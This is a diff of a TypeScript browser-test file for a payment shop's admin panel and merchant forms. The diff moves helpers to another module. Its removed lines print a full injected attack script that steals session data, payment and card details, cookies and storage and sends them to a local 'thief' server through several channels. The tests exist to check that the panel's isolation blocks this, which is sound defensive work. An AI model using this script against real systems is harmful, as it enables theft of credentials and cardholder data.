@@ -3,18 +3,16 @@
  * merchant's page can gain of another's. Chapter 30 §9.4, chapter 50 §8.
  */
 import assert from 'node:assert/strict'
-import { readFile } from 'node:fs/promises'
-import { createServer } from 'node:http'
 import { after, describe, test } from 'node:test'
-import type { BrowserContext, Page } from 'playwright-core'
+import type { Page } from 'playwright-core'
 import { moveForm, uploadForm } from '#server/administration/forms.ts'
 import { zipOf } from '#server/administration/zip-sample.ts'
-import { makeUser, Browser as PanelClient } from '../admin.ts'
+import { approvedForm, attack, signedInOperator, startThief } from '../attacking-form.ts'
 import { CheckoutClient } from '../checkout.ts'
 import { openBrowser } from '../chromium.ts'
 import { openShop } from '../shop.ts'
 
-const shop = await openShop()
+const shop = await openShop({ FORMS_DOMAIN: 'none' })
 const checkout = new CheckoutClient(shop)
 const browser = await openBrowser()
 const thief = await startThief()
@@ -28,113 +26,10 @@ after(async () => {
   await shop[Symbol.asyncDispose]()
 })
 
-/** Another server, which writes down whatever reaches it. */
-async function startThief() {
-  const received: string[] = []
-  const server = createServer((request, response) => {
-    const parts: Buffer[] = []
-    request.on('data', (part: Buffer) => parts.push(part))
-    request.on('end', () => {
-      received.push(`${request.method} ${decodeURIComponent(request.url ?? '')} ${Buffer.concat(parts).toString()}`)
-      response.writeHead(200, { 'access-control-allow-origin': '*' }).end('taken')
-    })
-  })
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
-  const address = server.address()
-  if (typeof address !== 'object' || address === null) throw new Error('The server has no port.')
-  return {
-    url: `http://localhost:${address.port}`,
-    received,
-    stop: () =>
-      new Promise<void>((resolve) => {
-        server.close(() => resolve())
-        server.closeAllConnections()
-      }),
-  }
-}
-
-/** Every way out that a script has; what it has not stolen it does not send. */
-const attack = (thiefUrl: string): string => `
-;(async () => {
-  const loot = {}
-  const read = async (path, init = {}) => {
-    const reply = await fetch(path, { credentials: 'include', ...init })
-    if (!reply.ok) throw new Error(String(reply.status))
-    return reply.json()
-  }
-  const tried = async (name, get) => { try { loot[name] = await get() } catch { /* the next one */ } }
-  await tried('session', () => read('/admin/api/session'))
-  await tried('payments', () => read('/admin/api/payments'))
-  const [payment] = loot.payments?.payments ?? []
-  if (payment) {
-    const path = '/admin/api/merchants/' + payment.merchantId + '/payments/' + payment.id + '/card'
-    const headers = { 'content-type': 'application/json', 'x-csrf-token': loot.session?.csrf ?? '' }
-    const body = JSON.stringify({ reason: 'because' })
-    await tried('card', () => read(path, { method: 'POST', headers, body }))
-  }
-  await tried('cookie', () => document.cookie || Promise.reject())
-  await tried('storage', () => JSON.stringify(localStorage))
-  await tried('framed', async () => {
-    const frame = document.createElement('iframe')
-    frame.src = '/admin'
-    document.body.append(frame)
-    await new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 1500) })
-    return frame.contentDocument.body.innerHTML || Promise.reject()
-  })
-  window.loot = loot
-  if (Object.keys(loot).length > 0) {
-    const text = encodeURIComponent(JSON.stringify(loot).slice(0, 3000))
-    fetch('${thiefUrl}/fetch?' + text, { mode: 'no-cors' }).catch(() => {})
-    navigator.sendBeacon('${thiefUrl}/beacon', text)
-    new Image().src = '${thiefUrl}/image?' + text
-    const frame = document.createElement('iframe')
-    frame.name = 'out'
-    frame.src = '${thiefUrl}/frame?' + text
-    document.body.append(frame)
-    const form = Object.assign(document.createElement('form'), { action: '${thiefUrl}/form?' + text, method: 'post', target: 'out' })
-    document.body.append(form)
-    form.submit()
-    await new Promise((resolve) => setTimeout(resolve, 1000))
-  }
-  document.documentElement.dataset.attacked = 'yes'
-})()
-`
-
-const sample = new URL('../../../web/sdk/sample-form/', import.meta.url)
-const sampleFile = (path: string): Promise<string> => readFile(new URL(path, sample), 'utf8')
-
-/** The sample form with some lines added, uploaded and approved. */
-async function approvedForm(formId: string, more: string, merchant = 'demo'): Promise<string> {
-  const archive = zipOf({
-    'index.html': (await sampleFile('index.html')).replaceAll('sample-form/', `${formId}/`),
-    'js/form.js': (await sampleFile('js/form.js')) + more,
-    'style/form.css': await sampleFile('style/form.css'),
-    'img/lock.svg': await sampleFile('img/lock.svg'),
-  })
-  const office = { ...shop.base, by: 'test' }
-  const merchantId = shop.service.configuration.byKey(shop.merchant(merchant).key)?.merchant.id ?? ''
-  const uploaded = await uploadForm(office, { merchantId, formId, archive })
-  assert.ok(uploaded.ok, JSON.stringify(uploaded))
-  const moved = await moveForm(office, uploaded.form, 'approved')
-  assert.ok(moved.ok, JSON.stringify(moved))
-  return moved.form.id
-}
-
 async function link(over: Readonly<Record<string, unknown>>): Promise<string> {
   const answer = await checkout.session(over)
   assert.equal(answer.http, 200, answer.text)
   return answer.body.redirect_url
-}
-
-/** A browser in which an owner is signed in to the panel. */
-async function operator(): Promise<BrowserContext> {
-  const client = new PanelClient(shop.url)
-  assert.equal((await client.signIn(await makeUser(shop))).http, 200)
-  const context = await browser.newContext()
-  context.setDefaultTimeout(10_000)
-  const [name = '', value = ''] = client.cookie.split('=')
-  await context.addCookies([{ name, value, url: `${shop.url}/admin` }])
-  return context
 }
 
 const attacked = (page: Page): Promise<unknown> => page.locator('html[data-attacked]').waitFor()
@@ -142,8 +37,8 @@ const attacked = (page: Page): Promise<unknown> => page.locator('html[data-attac
 describe('a form that attacks the panel, opened by an operator who is signed in', () => {
   test('reads nothing of the panel, nothing leaves the browser, and the form still works', async () => {
     assert.equal((await shop.sale()).body.result, 'SUCCESS')
-    await approvedForm('attack', attack(thief.url))
-    const context = await operator()
+    await approvedForm(shop, 'attack', attack(thief.url))
+    const context = await signedInOperator(shop, browser)
     const panel = await context.newPage()
     await panel.goto(`${shop.url}/admin`)
     await panel.getByRole('heading', { level: 1 }).waitFor()
@@ -182,8 +77,8 @@ describe('documents of merchants', () => {
   })
 
   test('two forms that are open side by side reach neither each other’s document nor its storage', async () => {
-    await approvedForm('left', '')
-    await approvedForm('right', '', 'demo-sha256')
+    await approvedForm(shop, 'left', '')
+    await approvedForm(shop, 'right', '', 'demo-sha256')
     const context = await browser.newContext()
     const left = await context.newPage()
     await left.goto(await link({ form_id: 'left' }))
@@ -216,7 +111,7 @@ describe('a document without an origin', () => {
     fetch(`${shop.url}/page/v1/${path}`, { headers: { token, origin: 'null' } })
 
   test('is answered for a session that shows a form, without credentials, and refused for any other', async () => {
-    await approvedForm('plain', '')
+    await approvedForm(shop, 'plain', '')
     const [shown = '', standard = ''] = [await link({ form_id: 'plain' }), await link({})].map(
       (url) => url.split('/auth/')[1],
     )
@@ -228,7 +123,7 @@ describe('a document without an origin', () => {
   })
 
   test('is offered no wallet, which needs an origin', async () => {
-    await approvedForm('walletless', '')
+    await approvedForm(shop, 'walletless', '')
     const token = (await link({ form_id: 'walletless', methods: ['card', 'walletapay', 'walletbpay'] })).split(
       '/auth/',
     )[1]
